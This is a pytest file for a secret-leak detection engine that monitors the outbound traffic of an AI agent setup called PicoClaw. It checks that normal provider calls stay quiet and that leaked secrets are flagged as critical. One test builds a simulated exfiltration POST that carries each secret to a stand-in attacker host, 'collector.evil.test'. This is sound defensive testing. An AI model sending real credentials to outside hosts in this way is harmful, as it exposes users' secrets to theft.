"""A full v3 PicoClaw home (picoclaw_v3_home.py): every normal call is quiet, every secret elsewhere is critical.

Engine-level, so a wrong binding is pinned to its owner in a second; test_picoclaw_v3_live.py
replays the same calls through the real monitor.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest

from canary import assert_no_leak
from picoclaw_v3_home import write_v3_home
from traffic_guardian.detect.engine import Engine
from traffic_guardian.detect.exchange import OUTBOUND, Exchange
from traffic_guardian.detect.redact import Redactor
from traffic_guardian.picoclaw.secrets_watch import KnownSecretsWatch

ABOVE_INFO = ("low", "medium", "high", "critical")


@pytest.fixture(scope="module")
def v3(tmp_path_factory):
    root = tmp_path_factory.mktemp("v3")
    home = write_v3_home(root / "picoclaw")
    home.env["HOME"] = str(root)
    return home


@pytest.fixture
def engine(v3):
    redactor = Redactor(b"k" * 32)
    return Engine(redactor=redactor, known_secrets=KnownSecretsWatch(v3.home, redactor.fingerprint,
                                                                     environ=lambda: dict(v3.env)))


def exchanges(call) -> list[Exchange]:
    parts = urlsplit(call.url)
    dest = f"{parts.hostname}:{parts.port or 443}"
    headers = list(call.headers.items())
    if call.frames is None:
        return [Exchange(OUTBOUND, dest, protocol="https", method=call.method, url=call.url, headers=headers,
                         body=call.body or "", content_type=call.headers.get("Content-Type", ""))]
    upgrade = Exchange(OUTBOUND, dest, protocol="https", method="GET", url=call.url.replace("wss://", "https://"),
                       headers=[*headers, ("Upgrade", "websocket")])
    return [upgrade, *(Exchange(OUTBOUND, dest, protocol="websocket", body=frame, body_location="websocket.message")
                       for frame in call.frames)]


def test_every_normal_call_of_every_owner_is_quiet_and_counted(v3, engine):
    for call in v3.calls:
        for exchange in exchanges(call):
            loud = [(f.pattern, f.severity, f.location) for f in engine.scan(exchange) if f.severity in ABOVE_INFO]
            assert loud == [], f"{call.owner} {call.method} {call.url.split('?')[0][:60]}"
    sending = {v3.owners[value] for value in v3.values
               if any(value in (call.url + str(call.headers) + (call.body or "") + "".join(call.frames or []))
                      for call in v3.calls)}
    used = {key.removeprefix("known:") for key in engine.expected_uses if key.startswith("known:")}
    assert used == sending
    assert sending >= {"model:openai-main", "channel:work_bot", "channel:wecom", "channel:teams", "web:kagi",
                       "voice:elevenlabs", "skill:clawhub", "mcp:notes", "mcp:gh", "auth:openai",
                       "model:groq-main", "model:mistral-main", "web:perplexity"}  # file://, enc://, env


def test_every_secret_sent_elsewhere_is_one_critical_known_secret_naming_its_owner(v3, engine):
    for value, owner in v3.owners.items():
        leak = Exchange(OUTBOUND, "collector.evil.test:443", protocol="https", method="POST",
                        url="https://collector.evil.test/c", headers=[("Content-Type", "text/plain")],
                        body=f"exfil {value} end")
        found = [(f.pattern, f.severity, f.secret_owner) for f in engine.scan(leak) if f.pattern == "known_secret"]
        assert found == [("known_secret", "critical", owner)], owner
        assert_no_leak([value], outputs=[f.to_json() for f in engine.scan(leak)])


def test_a_secret_at_its_own_host_but_in_the_wrong_place_is_still_critical(v3, engine):
    telegram = next(v for v, o in v3.owners.items() if o == "channel:telegram")
    chat = Exchange(OUTBOUND, "api.telegram.org:443", protocol="https", method="POST",
                    url="https://api.telegram.org/botXYZ/sendMessage", body=f'{{"text": "token {telegram}"}}',
                    content_type="application/json")
    assert [(f.pattern, f.secret_owner) for f in engine.scan(chat)] == [("known_secret", "channel:telegram")]
    feishu = [v for v, o in v3.owners.items() if o == "channel:feishu"]
    for value in feishu[1:]:  # encrypt_key and verification_token are never sent, not even to Feishu
        body = f'{{"app_id": "cli_a1b2c3", "app_secret": "{value}"}}'
        sent = Exchange(OUTBOUND, "open.feishu.cn:443", protocol="https", method="POST",
                        url="https://open.feishu.cn/open-apis/auth/v3/tenant_access_token/internal", body=body,
                        content_type="application/json")
        assert [f.pattern for f in engine.scan(sent)] == ["known_secret"]
